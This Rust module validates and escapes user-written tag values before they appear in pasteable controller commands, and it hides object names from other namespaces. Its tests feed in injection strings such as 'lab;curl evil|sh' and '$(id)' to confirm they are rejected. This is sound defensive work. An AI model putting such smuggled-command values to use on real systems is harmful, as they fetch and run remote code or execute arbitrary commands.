//! What others wrote, in messages: a tag's value is never part of a command that somebody may paste, unless it can be nothing
//! but a name.
use saved_template_api::text::cut;

/// Most bytes of what others wrote that a message shows.
const MOST: usize = 80;

/// What others wrote, escaped and cut.
pub(crate) fn quoted(text: &str) -> String {
    format!("{:?}", cut(text.to_owned(), MOST))
}

/// A flag of the controller with a value that somebody else wrote into a tag: with the value only if that is a uid or
/// another DNS label.
pub(crate) fn flag(name: &str, value: &str) -> String {
    if is_label(value) { format!("{name}={value}") } else { name.to_owned() }
}

/// A DNS label, as every uid is one: at most 63 of a-z, 0-9 and -.
fn is_label(text: &str) -> bool {
    let inner = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
    (1..=63).contains(&text.len())
        && text.bytes().all(inner)
        && !text.starts_with('-')
        && !text.ends_with('-')
}

/// Who has a claim, as far as somebody who may read this object may know: a name of another namespace is not told.
pub(crate) fn claimant<'h>(holder: &'h str, namespace: &str) -> &'h str {
    match holder.split_once('/') {
        Some((of, name)) if of == namespace && name.split('.').all(is_label) => holder,
        Some(_) | None => "another template of this installation",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_of_a_tag_is_in_a_flag_only_if_it_can_be_nothing_but_a_name() {
        for (value, shown) in [
            ("0a1b2c3d-1111-2222-3333-444455556666", true),
            ("lab", true),
            (&"a".repeat(63), true),
            (&"a".repeat(64), false),
            ("", false),
            ("lab --regions=x", false),
            ("lab;curl evil|sh", false),
            ("$(id)", false),
            ("Lab", false),
            ("-x", false),
            ("lab\n", false),
            ("l\u{e4}b", false),
        ] {
            let flag = flag("--take-over", value);
            assert_eq!(flag == format!("--take-over={value}"), shown, "{value:?}: {flag}");
            assert_eq!(flag == "--take-over", !shown, "{value:?}: {flag}");
        }
    }

    #[test]
    fn what_others_wrote_is_escaped_and_bounded() {
        assert_eq!(quoted("a\"b`\n"), r#""a\"b` ""#);
        assert!(quoted(&"\u{1f30b}".repeat(300)).len() <= 2 + MOST);
    }

    #[test]
    fn an_object_of_another_namespace_is_not_named() {
        let hidden = "another template of this installation";
        for (holder, told) in [
            ("geo/tremor", "geo/tremor"),
            ("secret/quake", hidden),
            ("secret/a.b", hidden),
            ("geo/$(id)", hidden),
            ("", hidden),
        ] {
            assert_eq!(claimant(holder, "geo"), told);
        }
    }
}
